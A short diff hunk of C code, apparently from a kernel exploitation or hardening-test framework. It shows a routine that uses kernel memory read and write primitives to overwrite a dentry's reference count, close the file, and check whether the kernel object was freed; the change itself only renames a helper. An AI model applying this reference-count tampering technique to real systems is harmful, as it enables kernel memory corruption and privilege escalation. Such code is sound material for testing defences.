@@ -19,7 +19,7 @@ static bool fire(void)
 	const uint64_t name = peek(file_struct(own_task(), (int)file) + member("file.path") +
 				   member("path.dentry"));
 
-	poke32(name + member("dentry.references"), 1);
+	poke_references(name + member("dentry.references"), 1);
 	call1(__NR_close, file);
 	return call3(__NR_open, (long)PUBLIC, O_RDONLY, 0) == -ENOENT;
 }
